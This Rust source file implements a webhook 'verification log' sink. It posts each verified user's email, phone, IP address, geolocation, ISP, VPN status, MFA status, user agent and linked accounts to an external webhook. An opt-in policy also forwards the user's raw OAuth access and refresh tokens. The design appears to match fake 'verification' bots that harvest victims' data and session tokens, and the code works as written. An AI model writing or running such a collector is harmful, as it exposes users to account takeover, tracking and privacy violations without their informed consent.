//! Notification sink: renders a verification record as a webhook embed and
//! posts it once.

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use reqwest::Client;
use secrecy::{ExposeSecret, Secret};
use serde::{Deserialize, Serialize};
use service_core::observability::TracedClientExt;
use std::str::FromStr;
use thiserror::Error;
use tracing::instrument;

use crate::models::VerificationRecord;

const LOG_TITLE: &str = "🔍 NEW VERIFICATION LOG";
const LOG_COLOR: u32 = 0xFF0000;
/// Platform limit for an embed field value.
const MAX_FIELD_LEN: usize = 1024;

/// What the notification carries of the user's access/refresh tokens.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CredentialPolicy {
    /// No token material at all.
    #[default]
    Omit,
    /// A short prefix and the length, enough to correlate.
    Redact,
    /// The raw tokens. Explicit opt-in only.
    Include,
}

impl FromStr for CredentialPolicy {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_lowercase().as_str() {
            "omit" => Ok(CredentialPolicy::Omit),
            "redact" => Ok(CredentialPolicy::Redact),
            "include" => Ok(CredentialPolicy::Include),
            other => Err(format!(
                "unknown credential policy '{}', expected omit, redact or include",
                other
            )),
        }
    }
}

#[derive(Debug, Clone, Error, PartialEq, Eq)]
pub enum DeliveryError {
    #[error("Failed to reach notification endpoint: {0}")]
    Transport(String),

    #[error("Notification endpoint returned status {status}")]
    Status { status: u16, body: String },

    #[error("Notification delivery timed out")]
    Timeout,

    #[error("Notification sink disabled: {0}")]
    NotEnabled(String),
}

impl DeliveryError {
    pub fn is_timeout(&self) -> bool {
        matches!(self, DeliveryError::Timeout)
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct WebhookMessage {
    pub embeds: Vec<Embed>,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Embed {
    pub title: String,
    pub color: u32,
    pub fields: Vec<EmbedField>,
    pub footer: EmbedFooter,
    pub timestamp: String,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct EmbedField {
    pub name: String,
    pub value: String,
    pub inline: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct EmbedFooter {
    pub text: String,
}

impl WebhookMessage {
    /// Value of the first field whose name contains `name`.
    pub fn field(&self, name: &str) -> Option<&str> {
        self.embeds
            .iter()
            .flat_map(|embed| embed.fields.iter())
            .find(|field| field.name.contains(name))
            .map(|field| field.value.as_str())
    }
}

/// Render a record into the fixed notification layout.
pub fn build_message(
    record: &VerificationRecord,
    policy: CredentialPolicy,
    verified_at: DateTime<Utc>,
) -> WebhookMessage {
    let identity = &record.identity;
    let network = record.network.as_ref();

    let country = network
        .and_then(|geo| geo.country.as_deref())
        .unwrap_or("Unknown");
    let location = match network.and_then(|geo| geo.map_link.as_deref()) {
        Some(map) => format!("{} | [View Map]({})", country, map),
        None => format!("{} | N/A", country),
    };

    let proxy = match network {
        Some(geo) if geo.is_proxy => "✅ YES (VPN/Proxy)",
        Some(_) => "❌ NO",
        None => "Unknown",
    };

    let connections = if record.connections.is_empty() {
        "None".to_string()
    } else {
        record
            .connections
            .iter()
            .map(|c| format!("{}: {}", c.platform, c.display_name))
            .collect::<Vec<_>>()
            .join("\n")
    };

    let mut fields = vec![
        field("👤 User", format!("{} ({})", identity.tag(), identity.id), true),
        field("📧 Email", or_none(identity.email.as_deref()), true),
        field("📱 Phone", or_none(identity.phone.as_deref()), true),
        field("🌐 IP", record.client.address.clone(), true),
        field("📍 Location", location, true),
        field(
            "🏢 ISP",
            network
                .and_then(|geo| geo.isp.clone())
                .unwrap_or_else(|| "Unknown".to_string()),
            true,
        ),
        field("🛡️ Proxy/VPN", proxy.to_string(), true),
        field(
            "🔐 MFA",
            if identity.mfa_enabled { "✅ Enabled" } else { "❌ Disabled" }.to_string(),
            true,
        ),
        field(
            "🗣️ Locale",
            identity
                .locale
                .clone()
                .unwrap_or_else(|| "Unknown".to_string()),
            true,
        ),
        field(
            "🖥️ User Agent",
            record
                .client
                .user_agent
                .clone()
                .unwrap_or_else(|| "Unknown".to_string()),
            false,
        ),
        field("🔗 Connections", connections, false),
    ];

    if let Some(tokens) = render_tokens(record, policy) {
        fields.push(field("🔑 Tokens", tokens, false));
    }

    WebhookMessage {
        embeds: vec![Embed {
            title: LOG_TITLE.to_string(),
            color: LOG_COLOR,
            fields,
            footer: EmbedFooter {
                text: format!("Verified at {}", verified_at.to_rfc3339()),
            },
            timestamp: verified_at.to_rfc3339(),
        }],
    }
}

fn render_tokens(record: &VerificationRecord, policy: CredentialPolicy) -> Option<String> {
    let credential = &record.credential;
    let render = |token: &str| match policy {
        CredentialPolicy::Include => token.to_string(),
        _ => redact(token),
    };

    match policy {
        CredentialPolicy::Omit => None,
        CredentialPolicy::Redact | CredentialPolicy::Include => Some(format!(
            "Access: {}\nRefresh: {}",
            render(credential.access_token()),
            credential
                .refresh_token()
                .map(render)
                .unwrap_or_else(|| "None".to_string()),
        )),
    }
}

fn redact(token: &str) -> String {
    let prefix: String = token.chars().take(4).collect();
    format!("{}… ({} chars)", prefix, token.chars().count())
}

fn or_none(value: Option<&str>) -> String {
    match value {
        Some(v) if !v.is_empty() => v.to_string(),
        _ => "None".to_string(),
    }
}

fn field(name: &str, value: String, inline: bool) -> EmbedField {
    let value = if value.chars().count() > MAX_FIELD_LEN {
        let mut cut: String = value.chars().take(MAX_FIELD_LEN - 1).collect();
        cut.push('…');
        cut
    } else {
        value
    };

    EmbedField {
        name: name.to_string(),
        value,
        inline,
    }
}

/// Where verification records go. Delivery is a precondition for
/// provisioning: it is the only record of who was verified.
#[async_trait]
pub trait NotificationSink: Send + Sync {
    async fn deliver(&self, record: &VerificationRecord) -> Result<(), DeliveryError>;
}

/// Posts to a statically configured webhook URL.
pub struct WebhookSink {
    client: Client,
    url: Secret<String>,
    policy: CredentialPolicy,
}

impl WebhookSink {
    pub fn new(client: Client, url: Secret<String>, policy: CredentialPolicy) -> Self {
        if policy == CredentialPolicy::Include {
            tracing::warn!("Webhook sink configured to forward raw OAuth tokens");
        }

        Self {
            client,
            url,
            policy,
        }
    }
}

#[async_trait]
impl NotificationSink for WebhookSink {
    #[instrument(skip_all, fields(user_id = %record.identity_id()))]
    async fn deliver(&self, record: &VerificationRecord) -> Result<(), DeliveryError> {
        let message = build_message(record, self.policy, Utc::now());

        let response = self
            .client
            .traced_post(self.url.expose_secret())
            .json(&message)
            .send()
            .await
            .map_err(|e| {
                if e.is_timeout() {
                    DeliveryError::Timeout
                } else {
                    // reqwest errors embed the URL, which carries the webhook token.
                    DeliveryError::Transport(e.without_url().to_string())
                }
            })?;

        let status = response.status();
        if !status.is_success() {
            let body = response.text().await.unwrap_or_default();
            tracing::error!(status = %status, body = %body, "Webhook rejected verification log");
            return Err(DeliveryError::Status {
                status: status.as_u16(),
                body,
            });
        }

        tracing::info!("Verification log delivered");
        Ok(())
    }
}
